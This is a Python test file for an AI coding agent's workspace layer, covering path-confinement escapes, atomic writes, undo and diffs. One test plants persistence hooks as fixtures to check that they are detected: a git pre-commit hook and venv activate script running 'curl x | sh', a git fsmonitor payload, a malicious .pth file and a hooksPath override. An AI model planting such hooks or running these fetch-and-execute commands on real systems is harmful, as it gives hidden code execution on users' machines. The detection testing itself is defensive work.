"""Workspace: path confinement (tests/data/path_escapes.json), atomic writes, checkpoints, diffs."""

from __future__ import annotations

import os
import stat
from pathlib import Path

import pytest

from smallops_tui.agent import Checkpoint, PathEscape, Workspace, WorkspaceError, diff_texts

from ..conftest import load

ESCAPES = load("path_escapes.json")


def test_corpus_has_twenty_escape_attempts_with_symlinks() -> None:
    assert sum(c["escapes"] for c in ESCAPES) >= 20
    assert sum(1 for c in ESCAPES if c["escapes"] and "symlink" in c) >= 5


@pytest.mark.parametrize("case", ESCAPES, ids=[repr(c["path"])[:40] + (" (link)" if "symlink" in c else "") for c in ESCAPES])
def test_path_escapes(case: dict, workspace: Workspace, tmp_path: Path) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "secret.txt").write_text("secret")
    subst = {"{outside}": str(outside), "{root}": str(workspace.root)}

    def fill(text: str) -> str:
        for key, value in subst.items():
            text = text.replace(key, value)
        return text

    if "symlink" in case:
        link = workspace.root / case["symlink"]["name"]
        link.parent.mkdir(parents=True, exist_ok=True)
        os.symlink(fill(case["symlink"]["target"]), link)
    path = fill(case["path"])
    if case["escapes"]:
        with pytest.raises(PathEscape):
            workspace.resolve(path)
        assert not workspace.contains(path)
    else:
        resolved = workspace.resolve(path)
        assert resolved == workspace.root or workspace.root in resolved.parents


def test_path_escape_is_a_value_error() -> None:
    assert issubclass(PathEscape, ValueError)


def test_atomic_write_keeps_mode_and_leaves_no_temp_files(workspace: Workspace) -> None:
    target = workspace.root / "main.py"
    target.chmod(0o750)
    workspace.write_text("main.py", "print(1)\n")
    assert target.read_text() == "print(1)\n"
    assert stat.S_IMODE(target.stat().st_mode) == 0o750
    assert not [p for p in workspace.root.iterdir() if p.name.endswith(".smallops-tmp")]


def test_write_creates_parents_and_undo_removes_them(workspace: Workspace) -> None:
    workspace.write_text("pkg/sub/new.py", "x = 1\n")
    assert (workspace.root / "pkg/sub/new.py").read_text() == "x = 1\n"
    checkpoint = workspace.undo()
    assert isinstance(checkpoint, Checkpoint) and checkpoint.before is None
    assert not (workspace.root / "pkg").exists()


def test_undo_one_change_at_a_time(workspace: Workspace) -> None:
    original = (workspace.root / "main.py").read_text()
    workspace.write_text("main.py", "v1\n")
    workspace.write_text("main.py", "v2\n")
    workspace.write_text("notes.txt", "changed\n")
    assert (undone := workspace.undo()) is not None and undone.path == "notes.txt"
    assert (workspace.root / "notes.txt").read_text() == "keep me\n"
    workspace.undo()
    assert (workspace.root / "main.py").read_text() == "v1\n"
    workspace.undo()
    assert (workspace.root / "main.py").read_text() == original
    assert workspace.undo() is None


def test_failed_write_leaves_the_file_and_no_checkpoint(workspace: Workspace) -> None:
    with pytest.raises(WorkspaceError):
        workspace.write_text("src", "a directory cannot be replaced\n")
    assert workspace.checkpoints == []


def test_write_through_escape_is_refused_before_touching_disk(workspace: Workspace, tmp_path: Path) -> None:
    with pytest.raises(PathEscape):
        workspace.write_text("../escaped.txt", "x")
    assert not (tmp_path / "escaped.txt").exists()


def test_read_errors_are_sentences(workspace: Workspace) -> None:
    with pytest.raises(WorkspaceError, match="does not exist"):
        workspace.read_text("nope.py")
    with pytest.raises(WorkspaceError, match="is a directory"):
        workspace.read_text("src")
    with pytest.raises(WorkspaceError, match="is a file"):
        workspace.list_dir("main.py")


def test_non_utf8_file_reads_losslessly_as_latin1(workspace: Workspace) -> None:
    (workspace.root / "bin.dat").write_bytes(b"ok \xff\xfe end")
    file = workspace.read_file("bin.dat")
    assert file.text == "ok \xff\xfe end" and file.encoding == "latin-1"
    assert file.text.encode(file.encoding) == file.data  # every byte comes back as it was


def test_list_dir_marks_directories(workspace: Workspace) -> None:
    assert workspace.list_dir(".") == ["README.md", "build/", "main.py", "math.js", "notes.txt", "src/"]


def test_snapshot_and_net_changes(workspace: Workspace) -> None:
    before = workspace.snapshot()
    assert not workspace.net_changes(before).any
    workspace.write_text("main.py", "changed\n")
    workspace.write_text("new.txt", "new\n")
    (workspace.root / "notes.txt").unlink()
    net = workspace.net_changes(before)
    assert net.created == ("new.txt",) and net.modified == ("main.py",) and net.deleted == ("notes.txt",)
    assert "created: new.txt" in net.describe()


def test_the_net_changes_show_planted_hooks_and_git_configuration(workspace: Workspace) -> None:
    """.git, .venv and node_modules are skipped, but not the small files in them that run code later."""
    root = workspace.root
    for rel, text in ((".git/config", "[core]\n"), (".git/HEAD", "ref: refs/heads/main\n"),
                      (".git/hooks/pre-commit.sample", "#!/bin/sh\n"), (".git/objects/ab/cdef", "blob"),
                      (".venv/bin/activate", "# venv\n"), ("vendor/lib/.git/config", "[core]\n")):
        (root / rel).parent.mkdir(parents=True, exist_ok=True)
        (root / rel).write_text(text)
    before = workspace.snapshot()
    (root / ".git" / "hooks" / "pre-commit").write_text("#!/bin/sh\ncurl x | sh\n")
    (root / ".git" / "config").write_text('[core]\n\tfsmonitor = "sh payload"\n')
    (root / ".git" / "objects" / "ab" / "cdef").write_text("another blob")  # not a control file
    (root / ".venv" / "bin" / "activate").write_text("# venv\ncurl x | sh\n")
    (root / ".venv" / "lib" / "python3.12" / "site-packages").mkdir(parents=True)
    (root / ".venv" / "lib" / "python3.12" / "site-packages" / "evil.pth").write_text("import os\n")
    (root / "vendor" / "lib" / ".git" / "config").write_text("[core]\n\thooksPath = x\n")
    net = workspace.net_changes(before)
    assert net.created == (".git/hooks/pre-commit", ".venv/lib/python3.12/site-packages/evil.pth")
    assert net.modified == (".git/config", ".venv/bin/activate", "vendor/lib/.git/config")
    assert ".git/config" not in workspace.nearest_names("config")  # suggestions stay on the work


def test_nearest_names_for_a_hallucinated_path(workspace: Workspace) -> None:
    assert "main.py" in workspace.nearest_names("mian.py")
    assert "src/app.py" in workspace.nearest_names("files/app.py")


def test_diff_counts_and_marks_missing_newline() -> None:
    diff = diff_texts("a\nb\n", "a\nc", "f.txt")
    assert (diff.added, diff.removed) == (1, 1)
    assert "--- a/f.txt" in diff.unified and "\\ No newline at end of file" in diff.unified
    new = diff_texts(None, "x\n", "n.txt")
    assert "--- /dev/null" in new.unified and new.added == 1
    assert not diff_texts("same\n", "same\n").changed


def test_workspace_root_must_be_a_directory(tmp_path: Path) -> None:
    with pytest.raises(WorkspaceError, match="not a directory"):
        Workspace(tmp_path / "missing")
